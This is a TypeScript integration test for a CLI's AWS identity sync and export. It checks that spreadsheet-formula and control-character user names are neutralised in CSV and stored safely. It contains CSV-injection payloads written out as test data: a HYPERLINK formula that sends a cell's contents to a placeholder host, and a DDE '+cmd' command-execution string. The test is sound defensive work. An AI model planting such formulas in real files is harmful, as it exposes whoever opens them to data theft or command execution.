// Safe data out (issue 13, M1 and L1): AWS data is hostile input. A user named like a spreadsheet
// formula is neutralised in the CSV export, and NUL and other control characters in AWS names are
// stored on both databases (the sync never fails on them), through the real CLI, connector and SDK.
import { randomBytes } from "node:crypto";
import { mkdtempSync, readFileSync, rmSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import pg from "pg";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { connectCommand } from "../../src/cli/connect-command.js";
import { exportCommand } from "../../src/cli/export-command.js";
import { orgCommand } from "../../src/cli/org-command.js";
import { syncCommand } from "../../src/cli/sync-command.js";
import type { Command } from "../../src/cli/context.js";
import { startSandbox, type Sandbox } from "../../src/sandbox/index.js";
import { addUser } from "../../src/sandbox/mutate.js";
import { connectArgs, parseExport, PLATFORM_ENV, runCli, setProcessEnv } from "./cli-support.js";

const PG_URL = process.env["TEST_DATABASE_URL"];
const FORMULA = '=HYPERLINK("http://x/?"&A1,"click")';

async function pgQuery(text: string): Promise<void> {
  if (PG_URL === undefined) return;
  const client = new pg.Client({ connectionString: PG_URL });
  await client.connect();
  try {
    await client.query(text);
  } finally {
    await client.end();
  }
}

describe.each([
  { dialect: "sqlite", skip: false },
  { dialect: "postgres", skip: PG_URL === undefined },
])("hostile AWS data through sync and export [$dialect]", ({ dialect, skip }) => {
  let dir: string;
  let sandbox: Sandbox;
  let restoreEnv: () => void;
  let orgId: string;
  const schema = `sec_data_${randomBytes(5).toString("hex")}`;
  const env: Record<string, string> = {};
  const cli = (command: Command, args: string[]) => runCli(command, args, { ...env });

  beforeAll(async () => {
    if (skip) return;
    dir = mkdtempSync(join(tmpdir(), "idc-sync-sec-data-"));
    env["IDC_SYNC_DATA_DIR"] = dir;
    if (dialect === "postgres" && PG_URL !== undefined) {
      await pgQuery(`create schema "${schema}"`);
      const url = new URL(PG_URL);
      url.searchParams.set("options", `-c search_path=${schema}`);
      env["DATABASE_URL"] = url.toString();
    }
    restoreEnv = setProcessEnv(PLATFORM_ENV);
    const created = await cli(orgCommand, ["create", "Hostile", "--json"]);
    expect(created.err).toBe("");
    const org = JSON.parse(created.out) as { id: string; externalId: string };
    orgId = org.id;
    sandbox = await startSandbox({
      generate: { users: 5, groups: 2, accounts: 1, permissionSets: 1, seed: 3 },
      trust: { externalId: org.externalId },
    });
    addUser(sandbox.world, { UserName: FORMULA, DisplayName: "+cmd|' /C calc'!A0" });
    addUser(sandbox.world, {
      UserName: "nul\u0000user",
      DisplayName: "Bell\u0007 and\u0001 NUL\u0000 inside",
      Name: { GivenName: "\t=1+1\r", FamilyName: "-1+1" },
    });
  });

  afterAll(async () => {
    if (skip) return;
    restoreEnv();
    await sandbox.close();
    rmSync(dir, { recursive: true, force: true });
    await pgQuery(`drop schema if exists "${schema}" cascade`);
  });

  it.skipIf(skip)("syncs users with NUL and control characters in their names (L1)", async () => {
    const connected = await cli(connectCommand, connectArgs(sandbox, "--name", "Hostile", "--org", orgId));
    expect(connected.code, connected.err).toBe(0);
    const synced = await cli(syncCommand, ["Hostile", "--org", orgId]);
    expect(synced.err).toBe("");
    expect(synced.code).toBe(0);
    const exported = await cli(exportCommand, ["Hostile", "--org", orgId, "--format", "json"]);
    const data = parseExport(exported.out);
    const nul = data.users.find((u) => u.userName.startsWith("nul"));
    expect(nul?.userName).toBe("nul\uFFFDuser");
    expect(nul?.displayName).toBe("Bell\u0007 and\u0001 NUL\uFFFD inside");
    expect(nul?.givenName).toBe("\t=1+1\r");
    // The next sync reads the same values: nothing changed, so no change is recorded.
    const again = await cli(syncCommand, ["Hostile", "--org", orgId, "--json"]);
    expect(again.code, again.err).toBe(0);
    expect(again.out).not.toContain("user.updated");
  });

  it.skipIf(skip)("neutralises formula-like cells in the CSV export (M1)", async () => {
    const out = join(dir, "csv");
    const r = await cli(exportCommand, ["Hostile", "--org", orgId, "--format", "csv", "--out", out]);
    expect(r.code, r.err).toBe(0);
    const users = readFileSync(join(out, "users.csv"), "utf8");
    expect(users).toContain(`"'=HYPERLINK(""http://x/?""&A1,""click"")"`);
    expect(users).toContain(`"'+cmd|' /C calc'!A0"`);
    expect(users).toContain(`"'-1+1"`);
    expect(users).toContain(`"'\t=1+1\r"`);
    // The user name begins no cell of the file unneutralised.
    expect(users).not.toMatch(/(^|,)=HYPERLINK/m);
  });
});
